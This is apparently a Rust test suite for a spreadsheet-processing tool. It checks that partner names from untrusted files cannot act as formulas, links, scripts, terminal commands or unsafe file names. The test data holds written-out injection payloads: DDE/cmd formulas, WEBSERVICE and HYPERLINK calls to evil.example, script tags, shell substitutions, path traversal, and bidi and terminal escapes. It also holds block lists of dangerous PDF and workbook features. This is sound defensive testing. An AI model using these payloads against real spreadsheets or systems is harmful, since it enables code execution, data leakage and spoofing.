//! Text from strangers is text: in workbooks, documents, pages, messages, on the terminal and as names of files.
#![allow(clippy::unwrap_used, clippy::expect_used)]
#![allow(clippy::case_sensitive_file_extension_comparisons)] // our own names

mod common;

use std::collections::BTreeSet;
use std::io::{Cursor, Read as _};
use std::sync::OnceLock;

use lopdf::{Document, Object};
use rust_xlsxwriter::Workbook;
use unicode_normalization::UnicodeNormalization as _;

/// What somebody would write who wants a name to do more than to name.
fn hostile() -> Vec<String> {
    let mut all: Vec<String> = [
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")",
        "=WEBSERVICE(\"http://evil.example/\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "\t=1+1",
        "http://evil.example/click",
        "mailto:evil@evil.example?subject=x",
        "&Z&F&A &[Path]&[File] &\"Wingdings\"&72 big",
        "O'Brien's 'sheet'!A1",
        "[evil.xlsx]Sheet1!A1",
        "<script>alert(1)</script>",
        "]]><evil/><!--",
        "&evil; &#x1b; &lt;",
        "{ $name } { evil() } {\"",
        ".evil = { -term }",
        "%s%n%x $(touch evil) `touch evil` ${HOME}",
        "bell\u{7} back\u{8} null-free \u{1b}[31mred\u{1b}]0;title\u{7}",
        "\u{9b}31m c1 \u{85} next",
        "gpj\u{202e}exe.\u{2066}invoice\u{2069}",
        "line\u{2028}separator\u{2029}s",
        "del\u{7f}ete",
        "CON",
        "nul.txt",
        "COM¹",
        "../../etc/passwd",
        "..\\..\\Windows\\System32",
        "C:\\evil",
        "/etc/evil",
        "~root",
        "-rf",
        ".hidden",
        "trailing dots...",
        "trailing spaces   ",
        ":",
        "???",
        "😀🏴‍☠️",
        "Caf\u{e9}",
        "Cafe\u{301}",
        "CAFÉ",
        "ﬁnance",
        "finance",
        "FINANCE",
        "İstanbul",
        "istanbul",
        "Straße",
        "STRASSE",
        "A/B",
        "A:B",
        "A?B",
        "zero\u{200b}width",
        "zerowidth",
    ]
    .map(str::to_owned)
    .into();
    all.extend(["x".repeat(300), "x".repeat(300) + "y", "日本".repeat(150)]);
    all
}

const HEADER: [&str; 10] = [
    "MPN ID",
    "Partner Name",
    "Customer Name",
    "Workload",
    "SKU",
    "Association Type",
    "Month",
    "Active Users",
    "Notes",
    "Product Name",
];

fn row(id: &str, name: &str, rest: &str, good: bool) -> [String; 10] {
    let or_bad = |text: &str| if good { text.to_owned() } else { rest.to_owned() };
    [
        id.to_owned(),
        name.to_owned(),
        format!("{rest} "),
        or_bad("Exchange Online"),
        rest.to_owned(),
        or_bad("DPOR"),
        or_bad("2026-09"),
        or_bad("2500"),
        rest.to_owned(),
        rest.to_owned(),
    ]
}

/// A partner for each word: on its own sheet of a workbook, and in a delimited text; once with IDs, once without.
fn inbox(with_ids: bool) -> Vec<(String, Vec<u8>)> {
    let mut book = Workbook::new();
    let mut text = HEADER.join(",") + "\n";
    let sheet = book.add_worksheet();
    sheet.set_name("O'Brien & \"Co\" {x} <b>").unwrap();
    let mut at = 1;
    for (n, word) in hostile().iter().enumerate() {
        let id = if with_ids { format!("{}", 4_100_000 + n) } else { String::new() };
        for good in [true, false] {
            let cells = row(&id, word, word, good);
            for (col, cell) in cells.iter().enumerate() {
                sheet.write_string(at, col as u16, cell).unwrap();
            }
            at += 1;
            let quoted: Vec<String> = cells.iter().map(|cell| format!("\"{}\"", cell.replace('"', "\"\""))).collect();
            text.push_str(&(quoted.join(",") + "\n"));
        }
    }
    for (col, title) in HEADER.iter().enumerate() {
        sheet.write_string(0, col as u16, *title).unwrap();
    }
    sheet.write_string(0, 10, "=cmd|' /C calc'!A0 <b>{ $x } &Z \u{202e}header").unwrap();
    vec![
        ("=cmd' & {x} $(touch evil) \u{202e}fdp.xlsx".to_owned(), book.save_to_buffer().unwrap()),
        ("red\u{1b}[31m/bell\u{7}.csv".to_owned(), text.into_bytes()),
    ]
}

/// The review of the inbox with IDs: one is enough for several tests.
fn reviewed() -> &'static common::Run {
    static RUN: OnceLock<common::Run> = OnceLock::new();
    RUN.get_or_init(|| common::run_in(tempfile::tempdir().unwrap(), &inbox(true), &[], &[]))
}

/// Whether a terminal would obey a character of a text, or show others in another order.
fn commanding(text: &str) -> Option<char> {
    text.chars()
        .find(|&c| c.is_control() && c != '\n' || matches!(c, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}'))
}

#[test]
fn every_partner_has_a_folder_of_its_own_with_a_name_that_every_system_bears() {
    let without = common::run_in(tempfile::tempdir().unwrap(), &inbox(false), &[], &[]);
    for (with_ids, run) in [(true, reviewed()), (false, &without)] {
        let partners = run.results()["partners"].as_array().unwrap();
        if with_ids {
            assert_eq!(partners.len(), hostile().len());
        }
        assert!(partners.len() > 35, "{} partners", partners.len());
        let tree = common::tree(&run.out());
        let folder = |name: &str| name.strip_prefix("partners/").map(|rest| rest.split('/').next().unwrap().to_owned());
        let folders: BTreeSet<String> = tree.iter().filter_map(|(name, _)| folder(name)).collect();
        // What a file system without regard for case or normalisation takes for one, in either order of the two.
        let keys: BTreeSet<String> =
            folders.iter().map(|name| name.nfkc().collect::<String>().to_lowercase()).collect();
        let upper: BTreeSet<String> = folders.iter().map(|name| name.to_uppercase().nfkd().collect()).collect();
        assert_eq!((folders.len(), keys.len(), upper.len()), (partners.len(), partners.len(), partners.len()));
        for name in tree.iter().flat_map(|(name, _)| name.split('/')) {
            let stem = name.split('.').next().unwrap().to_lowercase();
            assert!(!["con", "prn", "aux", "nul", "com1", "lpt1", "com¹"].contains(&stem.as_str()), "{name:?}");
            assert!(!name.starts_with(['.', '-', '~', ' ']) && !name.ends_with(['.', ' ']), "{name:?}");
            assert!(!name.contains(['<', '>', ':', '"', '/', '\\', '|', '?', '*', '$', '`', '%']), "{name:?}");
            assert!(commanding(name).is_none() && name.chars().count() <= 100 && name.len() <= 220, "{name:?}");
        }
        let outside: Vec<String> = common::tree(run.dir.path()).into_iter().map(|(name, _)| name).collect();
        assert!(outside.iter().all(|name| name.starts_with("in/") || name.starts_with("out/")), "{outside:?}");
    }
}

/// Every part of a workbook as text.
fn parts(bytes: &[u8]) -> Vec<(String, String)> {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    (0..archive.len())
        .map(|n| {
            let mut part = archive.by_index(n).unwrap();
            let mut content = Vec::new();
            part.read_to_end(&mut content).unwrap();
            (part.name().unwrap().into_owned(), String::from_utf8_lossy(&content).into_owned())
        })
        .collect()
}

/// The texts within an element, wherever it is.
fn within<'a>(xml: &'a str, element: &str) -> Vec<&'a str> {
    let (open, close) = (format!("<{element}"), format!("</{element}>"));
    xml.split(&open)
        .skip(1)
        .filter(|rest| rest.starts_with(['>', ' ']))
        .filter_map(|rest| rest.split_once('>')?.1.split_once(&close).map(|(text, _)| text))
        .collect()
}

/// A page line without its doubled ampersands holds only codes that we write: place, font, size, colour, page numbers.
fn foreign_code(line: &str) -> Option<String> {
    let line = line.replace("&quot;", "\"").replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&");
    let rest = line.replace("&&", "");
    let known = |code: &str| {
        code.starts_with(['L', 'C', 'R', 'P', 'N', 'K', 'B', 'I']) || code.starts_with(|c: char| c.is_ascii_digit())
    };
    rest.split('&').skip(1).find(|code| !known(code)).map(str::to_owned)
}

#[test]
fn workbooks_hold_no_formula_link_or_code_of_strangers() {
    let run = reviewed();
    let (mut books, mut lines, mut formulas, mut texts) = (0, 0, 0, BTreeSet::new());
    for (name, bytes) in common::tree(&run.out()).into_iter().filter(|(name, _)| name.ends_with(".xlsx")) {
        books += 1;
        for (part, xml) in parts(&bytes) {
            let place = format!("{name}: {part}");
            for banned in ["externalLink", "ddeLink", "oleLink", "vba", "connections", "activeX", "macro"] {
                assert!(!part.to_lowercase().contains(&banned.to_lowercase()), "{place}");
            }
            if !part.ends_with(".xml") && !part.ends_with(".rels") && !part.ends_with(".vml") {
                continue;
            }
            let mut reader = quick_xml::Reader::from_str(&xml);
            reader.config_mut().check_end_names = true;
            loop {
                match reader.read_event() {
                    Ok(quick_xml::events::Event::Eof) => break,
                    Ok(quick_xml::events::Event::DocType(_)) => panic!("{place} has a document type"),
                    Ok(_) => {}
                    Err(error) => panic!("{place} is not well formed: {error}"),
                }
            }
            let control =
                xml.chars().find(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t' | '\u{7f}'..='\u{9f}'));
            assert_eq!(control, None, "{place}");
            assert!(!xml.contains("<evil"), "{place}");
            for formula in within(&xml, "f").into_iter().chain(within(&xml, "definedName")) {
                formulas += 1;
                for word in ["cmd", "HYPERLINK", "WEBSERVICE", "DDE", "evil", "calc"] {
                    assert!(!formula.contains(word), "{place}: {formula}");
                }
            }
            if part.ends_with(".rels") {
                for target in xml.split("Target=\"").skip(1).map(|rest| rest.split('"').next().unwrap()) {
                    let away = target.contains("://") || target.starts_with("mailto:") || target.starts_with("file:");
                    let ours = target.starts_with("partners/") || target.starts_with("annotated/");
                    assert!(!away && (ours || !target.contains("evil")), "{place}: {target}");
                }
            }
            for kind in ["oddHeader", "oddFooter", "evenHeader", "evenFooter", "firstHeader", "firstFooter"] {
                for line in within(&xml, kind) {
                    lines += 1;
                    assert_eq!(foreign_code(line), None, "{place}: {line}");
                }
            }
            if name.starts_with("partners/") {
                texts.extend(within(&xml, "t").into_iter().map(str::to_owned));
            }
        }
    }
    // They were there, and are there as text.
    assert!(
        books > hostile().len() && lines > 100 && formulas > 100,
        "{books} books, {lines} lines, {formulas} formulas"
    );
    for word in ["=cmd|' /C calc'!A0", "http://evil.example/click", "&lt;script&gt;alert(1)&lt;/script&gt;"] {
        assert!(texts.iter().any(|text| text.trim() == word), "{word:?} is not among the texts");
    }
}

#[test]
fn documents_do_nothing_when_they_are_opened() {
    fn look(object: &Object, place: &str) {
        match object {
            Object::Dictionary(dict) => {
                for (key, value) in dict {
                    let key = String::from_utf8_lossy(key);
                    for banned in
                        ["JavaScript", "JS", "Launch", "OpenAction", "AA", "EmbeddedFiles", "RichMedia", "XFA"]
                    {
                        assert_ne!(key, banned, "{place}");
                    }
                    if key == "S" {
                        let kind = value.as_name().unwrap_or_default();
                        assert!(
                            ![&b"JavaScript"[..], b"Launch", b"GoToR", b"SubmitForm", b"URI"].contains(&kind),
                            "{place}"
                        );
                    }
                    look(value, place);
                }
            }
            Object::Array(items) => items.iter().for_each(|item| look(item, place)),
            Object::Stream(stream) => {
                stream.dict.iter().for_each(|(_, value)| look(value, place));
                if stream.dict.get(b"Type").is_ok_and(|kind| kind.as_name().is_ok_and(|name| name == b"Metadata")) {
                    let bytes = stream.decompressed_content().unwrap_or_else(|_| stream.content.clone());
                    let xmp = String::from_utf8(bytes).unwrap();
                    let mut reader = quick_xml::Reader::from_str(&xmp);
                    while !matches!(reader.read_event().unwrap(), quick_xml::events::Event::Eof) {}
                    assert!(!xmp.contains("<evil") && !xmp.contains("<script"), "{place}: {xmp}");
                }
            }
            _ => {}
        }
    }
    let run = reviewed();
    let mut documents = 0;
    for (name, bytes) in common::tree(&run.out()).into_iter().filter(|(name, _)| name.starts_with("partners/")) {
        if name.ends_with(".pdf") {
            documents += 1;
            let document = Document::load_mem(&bytes).unwrap();
            document.objects.values().for_each(|object| look(object, &name));
        }
    }
    assert_eq!(documents, hostile().len());
}

#[test]
fn messages_say_names_and_do_not_read_them() {
    let run = common::run_in(tempfile::tempdir().unwrap(), &inbox(true), &["--lang".into(), "it".into()], &[]);
    let results = run.results();
    let partners = results["partners"].as_array().unwrap();
    let names: BTreeSet<&str> = partners.iter().filter_map(|partner| partner["name"].as_str()).collect();
    for word in [
        "{ $name } { evil() } {\"",
        ".evil = { -term }",
        "&evil; &#x1b; &lt;",
        "%s%n%x $(touch evil) `touch evil` ${HOME}",
    ] {
        assert!(names.contains(word), "{word:?} is not among {names:#?}");
    }
    let said: Vec<&str> =
        results["findings"].as_array().unwrap().iter().map(|f| f["message"].as_str().unwrap()).collect();
    assert!(said.iter().any(|text| text.contains("{ $name } { evil() } {\"")), "{said:#?}");
    // An unknown variable or function would show as its own name in braces, or as an error of the language files.
    assert!(!said.iter().any(|text| text.contains("{$name}") || text.contains("{evil()}")), "{said:#?}");
}

#[test]
fn nothing_of_strangers_commands_the_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().to_owned();
    common::write_all(&home.join("in"), &inbox(true));
    common::write_all(&home, &[("bad\u{1b}[31m.toml".to_owned(), b"x = \"\x1b[31m\xc2\x9b\" \x1b[0m".to_vec())]);
    let bad = "bad\u{1b}[31m.toml";
    let red = "\u{1b}[31mred\u{9b}\u{202e}";
    let runs: [&[&str]; 14] = [
        &["run", "in", "--out", "out"],
        &["run", "in", "--out", "out", "--format", "json"],
        &["check", "in"],
        &["check", "in", "--format", "json"],
        &["check", "in", "--lang", "it"],
        &["check", red],
        &["run", "in", "--out", "x\u{1b}[31my"],
        &["run", "in", "--out", bad],
        &["run", "in", "--out", "out", "--previous", bad],
        &["check", "in", "--columns", bad],
        &["run", "in", "--out", "out", "--theme", bad],
        &["rules", "check", bad],
        &["explain", red],
        &["check", "in", "--lang", red],
    ];
    for args in runs {
        let output = common::tiergap().current_dir(&home).args(args).output().unwrap();
        for (stream, bytes) in [("stdout", &output.stdout), ("stderr", &output.stderr)] {
            let text = std::str::from_utf8(bytes).unwrap();
            let at = text.char_indices().find(|&(_, c)| commanding(&c.to_string()).is_some());
            assert_eq!(
                at,
                None,
                "{args:?} {stream}: {:?}",
                at.map(|(at, _)| text[at..].chars().take(40).collect::<String>())
            );
        }
        assert!(!output.stderr.is_empty() || !output.stdout.is_empty(), "{args:?} says nothing");
    }
    // The file is what was printed, and escapes mean to machines what they stand for.
    let results = std::fs::read_to_string(home.join("out/results.json")).unwrap();
    assert_eq!(commanding(&results), None);
    let results: serde_json::Value = serde_json::from_str(&results).unwrap();
    let names: Vec<&str> = results["partners"].as_array().unwrap().iter().filter_map(|p| p["name"].as_str()).collect();
    assert!(names.iter().any(|name| name.contains('\u{202e}')), "{names:#?}");
}
